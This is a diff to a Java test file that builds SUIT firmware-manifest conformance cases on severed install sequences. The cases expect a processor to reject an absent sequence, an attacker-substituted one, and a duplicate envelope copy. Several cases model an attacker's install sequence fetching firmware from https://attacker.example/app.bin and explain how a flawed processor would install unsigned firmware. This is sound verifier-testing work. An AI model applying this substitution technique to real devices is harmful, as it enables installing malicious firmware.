@@ -1,13 +1,16 @@
 package dev.suitcase.vectors.families;
 
 import dev.suitcase.vectors.generate.BuiltCase;
+import dev.suitcase.vectors.model.Device;
+import dev.suitcase.vectors.model.DeviceImage;
 import dev.suitcase.vectors.model.Severity;
-import dev.suitcase.vectors.suit.CommandSequence;
 import dev.suitcase.vectors.suit.Envelope;
 import dev.suitcase.vectors.suit.Manifest;
 import dev.suitcase.vectors.suit.SuitLabels.ManifestKey;
 import dev.suitcase.verifier.Reason;
 import dev.suitcase.verifier.suit.Scope;
+
+import java.util.Map;
 
 import static dev.suitcase.vectors.families.SuitFixture.IMAGE_URI;
 import static dev.suitcase.vectors.families.SuitFixture.accepted;
@@ -67,53 +70,68 @@ final class SuitSeverableCases {
     @SuitCase(area = "severable", name = "install-absent-needed",
             title = "{alg} manifest with its install sequence severed and absent, processed to install",
             severity = Severity.MEDIUM,
-            requirements = {"SUITM-8.6-severable-members", "SUITM-6.3-error-or-correct-state"},
+            requirements = {"SUITM-8.6-severable-members", "SUITM-6.3-error-or-correct-state", "SUITM-8.4.6-directives"},
             flags = {"Severable"},
             description = """
-                    The severed-install manifest signed with {alg}, in an envelope without the install sequence,
-                    processed up to installation, which needs it.
+                    A manifest signed with {alg} whose suit-install (20) is severed (the manifest holds its
+                    SUIT_Digest) and which has no validate sequence, in an envelope without the install
+                    sequence, processed up to installation, which needs it.
 
-                    The processor cannot run a sequence it does not have: it must reject. One that treats the
-                    missing sequence as empty reports a successful update that installed nothing, and the device
-                    may then boot a stale or empty component.""")
+                    The processor cannot take the actions of a sequence it does not have: it must reject. One
+                    that treats the missing sequence as empty reports a successful update that installed
+                    nothing (no validate sequence catches it), and the device may then boot a stale or empty
+                    component.""")
     BuiltCase installAbsentNeeded(SuitFixture f) {
-        return rejected(Reason.POLICY, f.input(severedEnvelope(f).encode(), SuitFixture.device(), Scope.INSTALL));
+        Manifest withoutValidate = SuitFixture.manifest(SuitFixture.shared())
+                .withSevered(ManifestKey.INSTALL, SuitFixture.installFrom(IMAGE_URI))
+                .withSequence(ManifestKey.INVOKE, SuitFixture.invoke());
+        return rejected(Reason.POLICY, f.input(f.signed(withoutValidate), SuitFixture.device(), Scope.INSTALL));
     }
 
     @SuitCase(area = "severable", name = "install-changed",
-            title = "{alg} manifest with a severed install sequence replaced in the envelope",
+            title = "{alg} manifest with a severed install sequence replaced in the envelope by an attacker's",
             severity = Severity.CRITICAL,
-            requirements = {"SUITM-8.4.12-severable-digest", "SUITM-8.6-severable-members", "RFC9124-REQ.SEC.AUTH.REMOTE_LOC"},
+            requirements = {"SUITM-8.4.12-severable-digest", "SUITM-8.6-severable-members", "RFC9124-REQ.SEC.AUTHENTIC",
+                    "RFC9124-REQ.SEC.AUTH.REMOTE_LOC"},
             flags = {"Severable", "ModifiedManifest"},
             description = """
                     The severed-install manifest signed with {alg}; the envelope carries under key 20 an install
-                    sequence that fetches https://attacker.example/app.bin instead of the signed one. Severed
-                    members are outside the signature: only their digest in the manifest protects them.
+                    sequence the attacker wrote: it sets the URI https://attacker.example/app.bin and the digest
+                    and size of the attacker's 256-byte image, fetches it and checks it. The device can reach
+                    both the signed image and the attacker's server. Severed members are outside the signature:
+                    only their digest in the manifest protects them.
 
                     A processor must check the member against the digest and reject with a digest mismatch. One
-                    that runs severed members unchecked runs an install sequence anyone can write.""")
+                    that runs severed members unchecked completes the attacker's sequence (its image matches the
+                    digest it set, and the signed validate checks that same digest) and installs firmware
+                    nobody signed.""")
     BuiltCase installChanged(SuitFixture f) {
-        CommandSequence attackers = SuitFixture.installFrom("https://attacker.example/app.bin");
-        Envelope envelope = severedEnvelope(f).withSeveredMember(ManifestKey.INSTALL, attackers);
-        return rejected(Reason.DIGEST_MISMATCH, f.input(envelope.encode(), SuitFixture.device(), Scope.INSTALL));
+        Envelope envelope = severedEnvelope(f).withSeveredMember(ManifestKey.INSTALL, SuitFixture.attackersInstall());
+        return rejected(Reason.DIGEST_MISMATCH, f.input(envelope.encode(), SuitFixture.deviceReachingAttacker(), Scope.INSTALL));
     }
 
     @SuitCase(area = "severable", name = "inline-and-in-envelope",
-            title = "{alg} manifest with an inline install sequence and another one in the envelope",
+            title = "{alg} manifest with an inline install sequence and an attacker's one in the envelope",
             severity = Severity.CRITICAL,
-            requirements = {"SUITM-8.4-severed-or-inline", "SUITM-8.4.12-severable-digest", "RFC9124-REQ.SEC.AUTHENTIC"},
+            requirements = {"SUITM-8.4-severed-or-inline", "SUITM-8.4.12-severable-digest", "RFC9124-REQ.SEC.AUTHENTIC",
+                    "SUITM-8.4.6-directives"},
             flags = {"Severable", "ModifiedManifest"},
             description = """
                     The baseline manifest signed with {alg} holds its install sequence inline; the envelope also
-                    carries an install sequence under key 20, one that fetches https://attacker.example/app.bin.
-                    Nothing in the manifest authenticates the envelope's copy.
+                    carries an install sequence under key 20, the attacker's: it fetches and checks the
+                    attacker's image from https://attacker.example/app.bin. Nothing in the manifest
+                    authenticates the envelope's copy. The device reaches the attacker's server, but not the
+                    signed image's, so the signed install sequence cannot complete here.
 
-                    A processor must not run the envelope's member, and must refuse an envelope that carries a
-                    member the manifest did not sever. One that prefers the envelope's copy runs an unsigned
-                    sequence.""")
+                    A processor must not run the envelope's member: it either refuses an envelope carrying a
+                    member the manifest did not sever, or runs the signed inline sequence, which fails. Either
+                    way it rejects. One that prefers the envelope's copy installs the attacker's image and
+                    accepts.""")
     BuiltCase inlineAndInEnvelope(SuitFixture f) {
         Envelope envelope = f.envelope(SuitFixture.baseline())
-                .withSeveredMember(ManifestKey.INSTALL, SuitFixture.installFrom("https://attacker.example/app.bin"));
-        return rejected(Reason.BAD_STRUCTURE, f.input(envelope.encode(), SuitFixture.device(), Scope.INSTALL));
+                .withSeveredMember(ManifestKey.INSTALL, SuitFixture.attackersInstall());
+        Device attackerOnly = SuitFixture.device().withPayloads(
+                Map.of(SuitFixture.ATTACKER_URI, DeviceImage.of(SuitFixture.ATTACKER_IMAGE)));
+        return rejected(Reason.BAD_STRUCTURE, f.input(envelope.encode(), attackerOnly, Scope.INSTALL));
     }
 }
